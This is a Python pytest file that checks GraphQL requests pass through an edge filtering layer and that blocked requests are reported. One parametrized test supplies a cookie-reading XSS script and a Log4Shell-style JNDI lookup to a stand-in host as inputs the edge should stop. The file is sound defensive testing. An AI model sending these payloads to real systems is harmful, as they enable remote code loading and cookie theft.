"""That what the GraphQL tests send really goes through the edge, and that a stopped request is seen."""

import pytest

from tests.graphql_schema.conftest import Api, stopped_by
from tests.graphql_schema.through_edge import ThroughEdge

SCRIPT = "<script>alert(document.cookie)</script>"


def test_what_the_api_takes_goes_through_the_edge(api: Api, through_edge: ThroughEdge) -> None:
    before = through_edge.sent
    assert api.post("{ __typename }").status_code == 200
    assert (through_edge.sent, through_edge.stopped) == (before + 1, [])


def test_what_the_api_refuses_is_not_sent(api: Api, through_edge: ThroughEdge) -> None:
    before = through_edge.sent
    assert api.post("{").status_code == 400
    assert through_edge.sent == before


@pytest.mark.parametrize("text", [SCRIPT, "${jndi:ldap://evil.test/a}"])
def test_what_the_edge_stops_is_told(api: Api, through_edge: ThroughEdge, text: str) -> None:
    assert api.post("{ __typename }", {"x": text}).status_code == 200
    (stopped,) = stopped_by(through_edge)
    assert "POST" in stopped
